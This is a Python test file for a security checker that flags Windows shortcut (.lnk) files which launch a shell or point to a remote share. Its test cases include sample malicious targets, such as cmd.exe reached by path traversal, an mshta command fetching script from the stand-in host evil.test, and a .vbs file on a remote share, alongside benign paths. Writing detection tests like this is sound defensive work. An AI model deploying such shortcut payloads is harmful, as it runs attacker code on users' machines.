"""Shortcuts that run a shell, beside those that point to a file."""

import pytest

from gatepost.checks.files.commands import check
from gatepost.files.values import File, Trait
from gatepost.findings import Reading
from gatepost.kinds import FILE_SHORTCUT_COMMAND, FILE_SHORTCUT_TO_SHARE


@pytest.mark.parametrize(
    ("traits", "kinds"),
    [
        ((("shortcut", "..\\..\\Windows\\System32\\cmd.exe /c calc"),), [FILE_SHORTCUT_COMMAND.id]),
        ((("shortcut", "mshta https://evil.test/a"),), [FILE_SHORTCUT_COMMAND.id]),
        ((("shortcut", "x -e y"), ("shortcut-arguments", "-e y")), [FILE_SHORTCUT_COMMAND.id]),
        ((("shortcut-to-share", "\\\\evil.test\\share\\a.vbs"),), [FILE_SHORTCUT_TO_SHARE.id]),
        ((("shortcut", "C:\\Users\\ann\\report.docx"),), []),
        ((("shortcut", "D:\\music"),), []),
        ((("internet-shortcut", "https://a.test/"),), []),
        ((), []),
    ],
)
def test_shortcut(traits: tuple[tuple[str, str], ...], kinds: list[str]) -> None:
    file = File("1/a.lnk", b"", "lnk", "0" * 64, traits=tuple(Trait(*trait) for trait in traits))
    assert [finding.kind for finding in check(Reading(files=(file,)))] == kinds
